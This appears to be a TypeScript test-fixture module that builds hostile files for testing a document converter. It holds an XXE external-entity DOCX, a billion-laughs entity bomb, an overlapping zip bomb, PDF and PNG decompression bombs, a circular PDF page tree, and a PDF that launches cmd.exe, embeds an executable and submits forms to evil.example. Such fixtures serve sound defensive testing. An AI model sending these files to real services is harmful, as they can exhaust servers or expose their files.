import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { rawPdf } from '../conversion/test-files.ts'

/** Files of people who mean harm, for tests: made here, byte by byte, so that each does one thing. */

const WORD = '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml" PartName="/word/document.xml"/></Types>'
export const MACRO_TYPES = `${WORD}<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`
const RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Target="word/document.xml" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
const TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'

/** An office document of these parts. */
export const archive = (parts: Record<string, string | Uint8Array>) => Buffer.from(zipSync(Object.fromEntries(
  Object.entries({ '[Content_Types].xml': WORD, 'word/document.xml': '<w/>', ...parts })
    .map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
)))

const DOCUMENT = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

/** A text that says `said`; its XML begins with `declared`. */
export const docxSaying = (said: string, declared = ''): Buffer => archive({
  '[Content_Types].xml': TYPES, '_rels/.rels': RELATIONS,
  'word/document.xml': `<?xml version="1.0"?>${declared}<w:document ${DOCUMENT}><w:body><w:p><w:r><w:t>${said}</w:t></w:r></w:p></w:body></w:document>`,
})
const docxDeclaring = (declarations: string) => docxSaying('Before &harm; after', `<!DOCTYPE w:document [${declarations}]>`)

/** A text that asks for a file of the server to be put into it. */
export const docxAskingFor = (url: string): Buffer => docxDeclaring(`<!ENTITY harm SYSTEM "${url}">`)

/** Entities of entities: three gigabytes once they are put in. */
export const docxOfLaughs = (): Buffer => docxDeclaring([
  '<!ENTITY e0 "lol">', ...Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`), '<!ENTITY harm "&e9;">',
].join(''))

/** An archive whose entries are all the same bytes: it comes to far more than it is (after D. Fifield, 2019). */
export function overlappingArchive(entries: number): Buffer {
  const content = Buffer.alloc(1024 * 1024)
  const packed = deflateRawSync(content, { level: 9 })
  const name = (at: number) => Buffer.from(at === 0 ? '[Content_Types].xml' : `word/a${at}.xml`)
  const head = (signature: number, size: number) => {
    const buffer = Buffer.alloc(size)
    buffer.writeUInt32LE(signature, 0)
    return buffer
  }
  const local = head(0x04034b50, 30)
  local.writeUInt16LE(20, 4)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(crc32(content), 14)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(content.length, 22)
  local.writeUInt16LE(name(0).length, 26)
  const body = Buffer.concat([local, name(0), packed])
  const directory = Buffer.concat(Array.from({ length: entries }, (_, at) => {
    const entry = head(0x02014b50, 46)
    entry.writeUInt16LE(20, 6)
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(crc32(content), 16)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(content.length, 24)
    entry.writeUInt16LE(name(at).length, 28)
    return Buffer.concat([entry, name(at)])
  }))
  const end = head(0x06054b50, 22)
  end.writeUInt16LE(entries, 8)
  end.writeUInt16LE(entries, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(body.length, 16)
  return Buffer.concat([body, directory, end])
}

const page = (bytes: Buffer, dictionary: string) => rawPdf([
  '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R >>',
  `<< /Length ${bytes.length} ${dictionary} >>\nstream\n${bytes.toString('latin1')}\nendstream`,
])

/** A page whose drawing unpacks, twice, to that many bytes. */
export const pdfBomb = (bytes: number): Buffer => page(deflateSync(deflateSync(Buffer.alloc(bytes, ' '))), '/Filter [/FlateDecode /FlateDecode]')

/** Pages that lead back to themselves. */
export const pdfInCircles = (): Buffer => rawPdf([
  '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>',
])

/** A PDF that starts programs, sends forms and carries a file. */
export const pdfThatActs = (): Buffer => rawPdf([
  '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /SubmitForm /F (http://evil.example) >> >>] >>',
  '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream', '<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>',
])

/** A picture of some kilobytes that is that wide and high. */
export function pictureBomb(side: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(data.length)
    const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
    sum.writeUInt32BE(crc32(named))
    return Buffer.concat([length, named, sum])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([1, 0, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
